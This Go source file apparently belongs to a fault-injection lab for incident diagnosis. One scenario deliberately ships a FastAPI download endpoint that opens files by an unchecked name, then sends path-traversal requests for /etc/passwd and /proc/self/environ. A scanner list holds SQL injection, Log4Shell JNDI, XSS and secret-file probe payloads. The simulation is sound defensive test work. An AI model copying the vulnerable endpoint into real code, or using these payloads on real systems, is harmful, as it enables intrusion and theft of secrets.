package fault

import (
	"context"
	"fmt"
	"math/rand/v2"
	"time"

	"github.com/quellhq/quell/lab/stack"
)

// holeUsed is a release with a hole, and somebody who finds it.
func holeUsed() Fault {
	return Fault{
		Name: "hole-used", Group: "Security", Cause: "C-vuln-exploited",
		About:      "a release serves files by a name that it does not check; somebody tries many holes and gets a file of the machine",
		Truth:      one("security/breach#a-hole-in-the-software-was-used"),
		LookAlikes: []string{"C-credential-exposed", "C-brute-force"},
		Inject: func(ctx context.Context, s *stack.Stack, r *rand.Rand) (Heal, error) {
			s.Customers.Also(stack.Visit{Name: "download the prices", Weight: 10, Do: func(ctx context.Context, c *stack.Customer) error {
				return c.Get(ctx, "/download?name=prices.txt")
			}})
			heal, err := shipped(ctx, s, "Price lists to download",
				stack.Edit{File: "orders/lists/prices.txt", New: "item 1: 100\nitem 2: 200\n"},
				stack.Edit{File: "orders/catalogue.py", Old: "@routes.get(\"/top\")\n", New: "@routes.get(\"/download\")\nasync def download(name: str):\n" +
					"    try:\n        with open(os.path.join(os.path.dirname(__file__), \"lists\", name), \"rb\") as file:\n            return Response(file.read(), media_type=\"text/plain\")\n" +
					"    except OSError as wrong:\n        raise HTTPException(404, \"no such list\") from wrong\n\n\n@routes.get(\"/top\")\n"},
				stack.Edit{File: "orders/catalogue.py", Old: "from fastapi import APIRouter, HTTPException\n", New: "import os\n\nfrom fastapi import APIRouter, HTTPException, Response\n"})
			if err != nil {
				return nil, err
			}
			up := "/download?name=..%2f..%2f..%2f..%2f..%2f..%2f..%2f.." + pick(r, "%2fetc%2fpasswd", "%2fproc%2fself%2fenviron", "%2fetc%2fgroup")
			knock(ctx, s, fmt.Sprintf("203.0.113.%d", between(r, 1, 250)), append(tries(r), up))
			return heal, nil
		},
	}
}

// scanner knocks at doors that are not there.
func scanner() Fault {
	return Fault{
		Name: "attacks-that-find-nothing", Group: "healthy", Kind: Healthy,
		About: "a scanner tries what attackers try, and is answered 404",
		Inject: func(ctx context.Context, s *stack.Stack, r *rand.Rand) (Heal, error) {
			knock(ctx, s, fmt.Sprintf("203.0.113.%d", between(r, 1, 250)), tries(r))
			return nil, nil
		},
	}
}

// morningLogins lets many people log in at once, of whom some mistype.
func morningLogins() Fault {
	return Fault{
		Name: "morning-logins", Group: "healthy", Kind: Healthy,
		About: "many people log in within a short time, and one in ten mistypes",
		Inject: func(_ context.Context, s *stack.Stack, _ *rand.Rand) (Heal, error) {
			s.Customers.Also(
				stack.Visit{Name: "log in", Weight: 45, Do: func(ctx context.Context, c *stack.Customer) error { return c.LogIn(ctx) }},
				stack.Visit{Name: "mistype", Weight: 5, Do: func(ctx context.Context, c *stack.Customer) error {
					return c.Post(ctx, "/login", map[string]any{"name": fmt.Sprintf("customer%d", 1+c.Rand.IntN(300)), "password": "mistyped"})
				}})
			return nil, nil
		},
	}
}

// tokensAndScanner is tokens that end, beside a scanner that gets nothing.
func tokensAndScanner() Fault {
	f := tokensEnd()
	inject := f.Inject
	f.Name, f.Kind, f.Group = "tokens-end-and-a-scanner", Herring, "red herrings"
	f.About = "tokens end after a few seconds; beside it a scanner knocks and gets nothing"
	f.Inject = func(ctx context.Context, s *stack.Stack, r *rand.Rand) (Heal, error) {
		knock(ctx, s, "203.0.113.77", tries(r))
		return inject(ctx, s, r)
	}
	return f
}

// tries are some of the usual ones.
func tries(r *rand.Rand) []string {
	all := []string{
		"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/cgi-bin/test.sh", "/actuator/env", "/backup.sql", "/config.php.bak", "/server-status",
		"/items?category=1%27%20OR%20%271%27=%271", "/items/1%20UNION%20SELECT%20name,password%20FROM%20customers", "/vendor/phpunit/eval-stdin.php",
		"/static/..%2f..%2f..%2fetc/passwd", "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D", "/top?q=%3Cscript%3Ealert(1)%3C/script%3E",
	}
	r.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
	return all
}

// knock asks for all of them, a few a second, over and over until ctx ends.
func knock(ctx context.Context, s *stack.Stack, from string, paths []string) {
	go func() {
		for n := 0; ctx.Err() == nil; n++ {
			once(ctx, s.Front+paths[n%len(paths)], from)
			time.Sleep(250 * time.Millisecond)
		}
	}()
}
